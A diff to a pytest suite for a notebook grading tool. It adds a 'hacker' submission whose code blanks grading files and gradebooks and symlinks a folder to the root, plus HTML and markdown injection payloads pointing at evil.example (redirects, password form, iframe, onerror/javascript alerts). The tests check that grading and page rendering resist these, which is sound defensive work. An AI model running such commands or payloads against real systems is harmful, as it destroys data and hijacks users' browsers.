@@ -3,6 +3,7 @@
 import csv
 import json
 import os
+import re
 import subprocess
 import sys
 import zipfile
@@ -42,12 +43,56 @@ def copied_programs():
         yield
 
 
+HACK = """
+import subprocess
+from pathlib import Path
+place = next(folder for folder in Path.cwd().parents if folder.name.startswith("notebook-")).parent
+files = f"{place}/grading-*/release/*/* {place}/grading-*/closed.json {place}/grading-*/gradebook.db FOLDER/right/*/* "
+files += "FOLDER/grades/*.csv FOLDER/grades/blank/*"
+subprocess.run(["sh", "-c", f"for file in {files}; do test -e $file && echo {{}} > $file; done"], env={})
+subprocess.run(["sh", "-c", "rm -r FOLDER/grades/broken; ln -s / FOLDER/grades/broken"], env={})
+answers = {}
+"""
+HTML = """<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/">
+
+<style>body{display:none}</style> <form action="https://evil.example/"><input type="password"></form>
+
+<iframe src="//evil.example"></iframe> <a href="javascript:alert(1)" class="navbar-fixed-top" id="top">a</a>
+
+<img src="https://evil.example/x.png" onerror="alert(1)">
+
+[b](javascript:alert(1)) **bold**"""
+ODD = f"""
+from IPython.display import display
+page, metadata = {HTML!r}, {{"text/html": {{"isolated": True}}, "image/png": {{"width": "1 onload=alert(1)"}}}}
+display({{"application/x-evil": {{"a": [1]}}, "text/html": page, "text/markdown": page}}, metadata=metadata, raw=True)
+display({{"image/png": "eA=="}}, metadata=metadata, raw=True)
+kernel = get_ipython().kernel
+for kind, content in {{
+    "stream": {{"text": 3}}, "error": {{"traceback": 7}}, "comm_open": {{}}, "other": {{}},
+    "display_data": {{"data": None}}, "update_display_data": {{"transient": {{"display_id": [1]}}}},
+    "execute_result": {{"data": {{"image/png": [2]}}, "execution_count": page}},
+    "execute_input": {{"execution_count": page}},
+}}.items():
+    kernel.session.send(kernel.iopub_socket, kind, content=content, parent=kernel.get_parent())
+"""
+
+
+def with_cells(notebook: str, **sources: str) -> str:
+    """A notebook with further cells at its end, a text by the type of each."""
+    cells = [{"cell_type": kind, "metadata": {"nbgrader": None}, "source": text} for kind, text in sources.items()]
+    notebook = json.loads(notebook)
+    return json.dumps(notebook | {"cells": notebook["cells"] + cells})
+
+
 @pytest.fixture(scope="module")
 def graded(blank, solved, tmp_path_factory):
-    """The command's result, on a class of five."""
+    """The command's result, on a class of six."""
     folder = tmp_path_factory.mktemp("class")
     right = edited(solved, task1_test="assert False, 'I have changed this test'", task3_test=None)
-    class_ = {"right": right, "wrong": edited(solved, **WRONG), "blank": blank}
+    right = with_cells(right, markdown=HTML, code=ODD)
+    hacker = edited(blank, task3_answer=HACK.replace("FOLDER", str(folder)))
+    class_ = {"right": right, "wrong": edited(solved, **WRONG), "blank": blank, "hacker": hacker}
     for student, notebook in class_.items():
         inner = folder / student / ("00_sample" if student == "right" else "")  # both layouts
         inner.mkdir(parents=True)
@@ -68,7 +113,7 @@ def table(graded, name: str) -> list[dict]:
 
 def test_points(graded):
     points = {row["student"]: float(row["points"]) for row in table(graded, "grades.csv")}
-    assert points == {"right": 4, "wrong": 0, "blank": 0, "broken": 0, "late": 0}, graded.stdout
+    assert points == {"right": 4, "wrong": 0, "blank": 0, "broken": 0, "late": 0, "hacker": 0}, graded.stdout
     assert {row["max"] for row in table(graded, "grades.csv")} == {"4"}
     right = [row["points"] for row in table(graded, "tasks.csv") if row["student"] == "right"]
     assert right == ["1", "2", "1"]
@@ -76,11 +121,33 @@ def test_points(graded):
 
 def test_what_could_not_be_graded_is_named_and_the_others_go_on(graded):
     assert graded.code == 2, graded.stderr
-    said = graded.stderr.splitlines()
+    said = [line for line in graded.stderr.splitlines() if "hacker" not in line]
     assert len(said) == 2 and "holiday.ipynb" in said[0] and "no such problem set: choose of 00_sample" in said[0]
     assert "broken/00_sample.ipynb" in said[1] and "it is not a notebook" in said[1]
     reasons = {row["student"]: row["reason"] for row in table(graded, "grades.csv") if row["reason"]}
     assert reasons["late"] == "not handed in" and set(reasons) == {"late", "broken"}
+
+
+def test_what_an_answer_has_changed_costs_nobody_else_and_is_written_again(graded):
+    """An answer overwrites what it can reach of the class: right, graded after it, has its points all the same."""
+    changed = [line for line in graded.stderr.splitlines() if "hacker/00_sample changed" in line]
+    names = ["grades.csv", "tasks.csv", "blank/00_sample.html", "broken/00_sample.html"]
+    assert len(changed) == len(names) and all(any(f"{name}:" in line for line in changed) for name in names)
+    assert not (graded.out / "broken").is_symlink()
+    assert "not a notebook" in (graded.out / "broken" / "00_sample.html").read_text()
+    assert "Your answer here" in (graded.out / "blank" / "00_sample.html").read_text()
+    assert len(table(graded, "tasks.csv")) == 6 * 3
+
+
+def test_a_page_shows_text_and_its_layout_and_leads_nowhere(graded):
+    page = (graded.out / "right" / "00_sample.html").read_text()
+    own = page.partition("<body>")[2]
+    assert own.count("<strong>bold</strong>") == 1 and own.count("&lt;meta http-equiv") >= 2
+    for tag in ("meta", "base", "style", "form", "input", "iframe", "script"):
+        assert f"<{tag}" not in own
+    for attribute in ("javascript:alert", "onload", "onerror", "navbar-fixed-top"):
+        assert not re.search(rf"<[^<>]*{attribute}", own)
+    assert "form-action 'none'; base-uri 'none'" in page
 
 
 def test_feedback(graded):
